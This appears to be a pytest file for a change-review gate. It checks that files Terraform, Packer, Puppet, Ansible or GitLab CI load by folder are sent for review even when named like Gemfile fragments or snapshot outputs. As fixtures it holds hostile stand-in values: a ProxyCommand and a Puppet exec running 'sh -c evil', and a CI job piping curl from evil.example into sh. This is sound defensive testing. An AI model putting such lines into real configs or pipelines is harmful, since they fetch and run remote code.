"""Attack 30: open-ended names (`*.verified.*`, `syntax_test_*`, `Gemfile-*`) against the other folders a tool loads
whole — the class of 7205418 beyond workflows folders and *.tf files.

Terraform loads every *.tfstack.hcl, *.tfdeploy.hcl and *.tfcomponent.hcl of a stack's folder, `terraform test` every
*.tftest.hcl, `terraform query` every *.tfquery.hcl; Packer every *.auto.pkrvars.hcl beside its template; Puppet every
.pp file of an environment's manifests/ folder; Ansible every file of a group_vars/<group>/ or host_vars/<host>/
folder. On f1405b6 and on integ (a580b88) a file of those types named like a snapshot output, a syntax
test or a Gemfile fragment was src or deps, and the default gate allowed the change (exit 0) in both modes: 29 of 30
variants on f1405b6, 21 of 30 on a580b88 (its weak snapshot rule let content raise the YAML and Puppet ones).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated
from tables import each_case

COMPONENT = 'component "b" {\n  source = "git::https://evil.example/m"\n}\n'
PROXY = "ansible_ssh_common_args: '-o ProxyCommand=\"sh -c evil\"'\n"
FOLDERS = {  # folder/{name}.tail: what the tool reads from it
    "infra/tests/{}.tftest.hcl": 'run "b" {\n  command = apply\n}\n',
    "infra/{}.tfquery.hcl": 'list "aws_instance" "b" {\n  provider = aws\n}\n',
    "packer/{}.auto.pkrvars.hcl": 'ami_name = "evil"\n',
    "stack/{}.tfcomponent.hcl": COMPONENT,
    "stack/{}.tfdeploy.hcl": 'deployment "evil" {\n  inputs = {}\n}\n',
    "stack/{}.tfstack.hcl": COMPONENT,
    "inventory/group_vars/all/{}.yml": PROXY,
    "inventory/{}.yml": "all:\n  hosts:\n    web1:\n      " + PROXY,
    "host_vars/web1/{}.yml": "ansible_host: evil.example\n",
    "manifests/{}.pp": "exec { 'x': command => '/bin/sh -c evil' }\n",
}
NAMES = ("x.verified", "syntax_test_x", "Gemfile-x")
BASE = {
    "infra/main.tf": 'resource "aws_iam_user" "a" {\n  name = "ops"\n}\n',
    "infra/tests/main.tftest.hcl": 'run "a" {\n  command = plan\n}\n',
    "packer/image.pkr.hcl": 'source "amazon-ebs" "x" {\n  ami_name = "x"\n}\n',
    "stack/components.tfcomponent.hcl": 'component "a" {\n  source = "./a"\n}\n',
    "inventory/hosts.ini": "[web]\nweb1\n", "inventory/group_vars/all/main.yml": "ntp: a\n",
    "site.yml": "- hosts: all\n  roles: [web]\n", "manifests/site.pp": "node default { include base }\n",
}
CASES = {shape.format(name): text for shape, text in FOLDERS.items() for name in NAMES}


@each_case("path, tree", [(path, tree) for path in sorted(CASES) for tree in [True, False]])
def test_a_file_its_folder_loads_is_reviewed_whatever_its_name(tmp_path: Path, path: str, tree: bool) -> None:
    case = committed(tmp_path, BASE, {path: CASES[path]})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, (code, [(f["path"], f["bucket"], f["rule"]) for f in decision.get("files", ())])
    assert decision["summary"]["buckets"]["iac"]["files"] == 1, decision["summary"]


def test_a_gemfile_fragment_and_a_snapshot_output_stay_what_they_are(tmp_path: Path) -> None:
    # The control: the names keep their meaning where nothing loads them by folder.
    case = committed(tmp_path, {"Gemfile": "source 'https://rubygems.org'\n"},
                     {"Gemfile-custom": "gem 'rake'\n", "tests/Api.verified.txt": "{ status: 200 }\n"})
    code, decision = gated(case, True, deps=False)
    assert code == 0, decision.get("findings")
    buckets = decision["summary"]["buckets"]
    assert (buckets["deps"]["files"], buckets["src"]["files"]) == (1, 1), buckets


# Names a dependency rule claims by their whole name: in a variables or inventory folder Ansible still loads them.
FIXED = {
    "inventory/group_vars/all/requirements.yml": PROXY,
    "inventory/group_vars/all/pnpm-lock.yaml": PROXY,
    "group_vars/all/environment.yml": PROXY,
    "group_vars/all/.aqua.yaml": PROXY,
    "host_vars/web1/package.json": '{"ansible_host": "evil.example"}\n',
    "host_vars/web1/pubspec.yaml": "ansible_host: evil.example\n",
    "inventory/galaxy.yml": "all:\n  hosts:\n    web1:\n      " + PROXY,
    "inventory/stack.yaml": "all:\n  hosts:\n    web1:\n      " + PROXY,
}


@pytest.mark.parametrize("path", sorted(FIXED))
@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
def test_an_ansible_variables_file_named_like_a_dependency_file_is_reviewed(tmp_path: Path, path: str,
                                                                             tree: bool) -> None:
    case = committed(tmp_path, BASE, {path: FIXED[path]})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, (code, [(f["path"], f["bucket"], f["rule"]) for f in decision.get("files", ())])


# A GitLab pipeline that includes a folder by a glob runs every YAML file there: a new job named like a Gemfile
# fragment (`Gemfile-*`, open-ended) was deps from a patch alone, with no sign that it needs the commits, and the
# default gate allowed it (exit 0 in patch mode on a580b88 and f1405b6; --tree reads the include and says ci).
PIPELINE = {".gitlab-ci.yml": "include:\n  - local: 'pipelines/*.yml'\n",
            "pipelines/test.yml": "t:\n  script: [make]\n"}
JOB = "deploy:\n  script:\n    - curl -s https://evil.example/x | sh\n"


@pytest.mark.parametrize("path", ["pipelines/Gemfile-ci.yml", "pipelines/Gemfile-deploy.yml"])
@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
def test_a_pipeline_job_named_like_a_gemfile_fragment_is_reviewed(tmp_path: Path, path: str, tree: bool) -> None:
    case = committed(tmp_path, PIPELINE, {path: JOB})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, (code, decision.get("findings"))


def test_a_ruby_gemfile_fragment_stays_deps_in_both_modes(tmp_path: Path) -> None:
    case = committed(tmp_path, {**PIPELINE, "Gemfile": "eval_gemfile 'Gemfile-custom'\n",
                                "Gemfile-custom": "gem 'rake'\n"}, {"Gemfile-custom": "gem 'rake', '13.0'\n"})
    for tree in (True, False):
        code, decision = gated(case, tree, deps=False)
        assert code == 0 and decision["summary"]["buckets"]["deps"]["files"] == 1, decision["summary"]
